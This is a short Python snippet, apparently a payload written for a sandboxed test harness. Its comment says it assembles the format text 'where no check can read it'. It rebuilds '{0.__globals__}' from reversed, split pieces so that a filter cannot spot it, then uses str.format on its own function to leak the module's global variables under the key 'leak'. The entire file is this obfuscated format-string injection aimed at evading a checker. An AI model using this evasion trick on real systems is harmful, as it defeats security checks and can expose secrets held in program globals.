# route: the format text is put together where no check can read it
def execute(testData):
    field = "".join(reversed(["}", "__slabolg__"[::-1], ".", "0", "{"]))
    return {"leak": field.format(execute)}
